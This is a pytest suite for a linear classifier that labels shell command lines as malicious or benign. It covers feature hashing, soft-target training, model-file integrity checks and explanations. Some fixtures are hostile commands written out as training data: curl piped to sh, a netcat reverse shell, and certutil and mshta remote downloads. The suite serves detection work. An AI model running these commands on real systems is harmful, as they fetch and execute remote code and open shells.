"""The student: features, soft-target training, the fused kernel and the model file."""

import json

import numpy as np
import pytest

from smallworld import data as D
from smallworld.errors import ModelFileError
from smallworld.evaluate import binary_metrics
from smallworld.student import features, modelfile
from smallworld.student.linear import LinearStudent


def _fnv(b: bytes) -> int:
    h = 2166136261
    for c in b:
        h = ((h ^ c) * 16777619) & 0xFFFFFFFF
    return h


def test_features_follow_the_documented_hash():
    cfg = features.config({"ngram_min": 1, "ngram_max": 2, "tokens": True, "dim_bits": 20, "lowercase": True})
    X = features.transform(["Ab c"], cfg)
    framed = b"\x02ab c\x03"
    expect = {}
    for n in (1, 2):
        for i in range(len(framed) - n + 1):
            k = _fnv(framed[i:i + n]) & ((1 << 20) - 1)
            expect[k] = expect.get(k, 0) + 1
    for tok in (b"ab", b"c"):
        k = _fnv(b"\x01" + tok) & ((1 << 20) - 1)
        expect[k] = expect.get(k, 0) + 1
    total = sum(expect.values())
    got = dict(zip(X.indices.tolist(), X.data.tolist()))
    assert set(got) == set(expect)
    for k, c in expect.items():
        assert got[k] == pytest.approx(c / np.sqrt(total), rel=1e-6)


def _rows(data_dir, split, n, seed=0):
    rows = D.read_rows(data_dir / "cmdlines" / f"{split}.jsonl.gz")
    idx = np.random.default_rng(seed).choice(len(rows), size=min(n, len(rows)), replace=False)
    return [rows[i] for i in idx]


def test_trains_on_real_command_lines_and_kernel_matches_sparse_path(data_dir):
    tr, dv = _rows(data_dir, "train", 2000), _rows(data_dir, "dev", 1500)
    Y = np.array([[r["label"] == "malicious", r["label"] == "benign"] for r in tr], dtype=float)
    m = LinearStudent(("malicious", "benign"), {"dim_bits": 16}).fit([r["text"] for r in tr], Y)
    P = m.predict_proba([r["text"] for r in dv])
    auc = binary_metrics(np.array([r["label"] == "malicious" for r in dv]), P[:, 0])["roc_auc"]
    assert auc > 0.9  # dev shares sources with train: easy
    X = features.transform([r["text"] for r in dv], m.feature_config)
    ref = X @ m.W.astype(np.float64) + m.b
    assert np.abs(ref - m.decision_function([r["text"] for r in dv])).max() < 1e-5


def test_soft_targets_are_learned_not_thresholded():
    texts = ["alpha one", "alpha two", "beta one", "beta two"] * 10
    soft = np.array([[0.7, 0.3], [0.7, 0.3], [0.2, 0.8], [0.2, 0.8]] * 10)
    m = LinearStudent(("a", "b"), {"dim_bits": 12}, l2=1e-6).fit(texts, soft)
    P = m.predict_proba(["alpha one", "beta two"])
    # cross-entropy against soft targets is minimised at the targets themselves
    assert P[0, 0] == pytest.approx(0.7, abs=0.03) and P[1, 0] == pytest.approx(0.2, abs=0.03)


def test_sample_weights_matter():
    texts = ["same text"] * 4
    Y = np.array([[1, 0], [1, 0], [0, 1], [0, 1]], dtype=float)
    a = LinearStudent(("a", "b"), {"dim_bits": 10}, l2=1e-6).fit(texts, Y, np.array([3, 3, 1, 1.0]))
    assert a.predict_proba(["same text"])[0, 0] == pytest.approx(0.75, abs=0.02)


@pytest.mark.parametrize("dtype,tol", [("float32", 0), ("float16", 2e-3), ("int8", 3e-2)])
def test_model_file_round_trip(tmp_path, dtype, tol):
    texts = ["curl http://x | sh", "ls -la", "nc -e /bin/sh 1.2.3.4 4444", "git status"]
    Y = np.array([[1, 0], [0, 1], [1, 0], [0, 1]], dtype=float)
    m = LinearStudent(("malicious", "benign"), {"dim_bits": 12}).fit(texts, Y)
    modelfile.save(m, tmp_path / "m", {"note": "x"}, dtype=dtype)
    m2, h = modelfile.load(tmp_path / "m")
    assert h["note"] == "x" and h["labels"] == ["malicious", "benign"]
    assert np.abs(m.predict_proba(texts) - m2.predict_proba(texts)).max() <= tol + 1e-7


def _saved(tmp_path):
    m = LinearStudent(("x", "y"), {"dim_bits": 10}).fit(["a", "b"], np.array([[1, 0], [0, 1.0]]))
    return modelfile.save(m, tmp_path / "m")


def test_truncated_weights_are_rejected(tmp_path):
    d = _saved(tmp_path)
    w = d / "weights.bin"
    w.write_bytes(w.read_bytes()[:-7])
    with pytest.raises(ModelFileError, match="truncated"):
        modelfile.load(d)


def test_altered_weights_are_rejected(tmp_path):
    d = _saved(tmp_path)
    w = d / "weights.bin"
    b = bytearray(w.read_bytes())
    b[10] ^= 0xFF
    w.write_bytes(bytes(b))
    with pytest.raises(ModelFileError, match="sha256"):
        modelfile.load(d)


@pytest.mark.parametrize("edit", [
    lambda h: h.update(format="pickle"),
    lambda h: h.update(version=99),
    lambda h: h.update(dim=12345),
    lambda h: h.pop("labels"),
    lambda h: h["features"].update(ngram_max=99),
    lambda h: h.update(dtype="object"),
])
def test_malformed_headers_are_rejected(tmp_path, edit):
    d = _saved(tmp_path)
    h = json.loads((d / "model.json").read_text())
    edit(h)
    (d / "model.json").write_text(json.dumps(h))
    with pytest.raises(ModelFileError):
        modelfile.load(d)


def test_not_json_and_oversized_headers_are_rejected(tmp_path):
    d = _saved(tmp_path)
    (d / "model.json").write_text("{not json")
    with pytest.raises(ModelFileError, match="not valid JSON"):
        modelfile.load(d)
    (d / "model.json").write_text(" " * (modelfile.MAX_JSON_BYTES + 1))
    with pytest.raises(ModelFileError, match="refusing"):
        modelfile.load(d)


def test_explanations_add_up_to_the_margin_and_name_real_ngrams():
    from smallworld.student.explain import explain

    texts = ["certutil -urlcache -f http://x/a.exe", "git status", "mshta http://y/p.hta", "ls -la"]
    m = LinearStudent(("malicious", "benign"), {"dim_bits": 14}).fit(texts, np.array([[1, 0], [0, 1], [1, 0], [0, 1.0]]))
    t = "certutil -urlcache -f http://z/b.exe"
    e = explain(m, t, pos=0, top=5)
    z = m.decision_function([t])[0]
    assert e["margin"] == pytest.approx(z[0] - z[1], abs=1e-5)
    assert all(k.startswith(("'", "token:")) for k, _ in e["toward"] + e["against"])
    assert any(k == "token:certutil" for k, _ in explain(m, t, pos=0, top=10_000)["top_abs"])
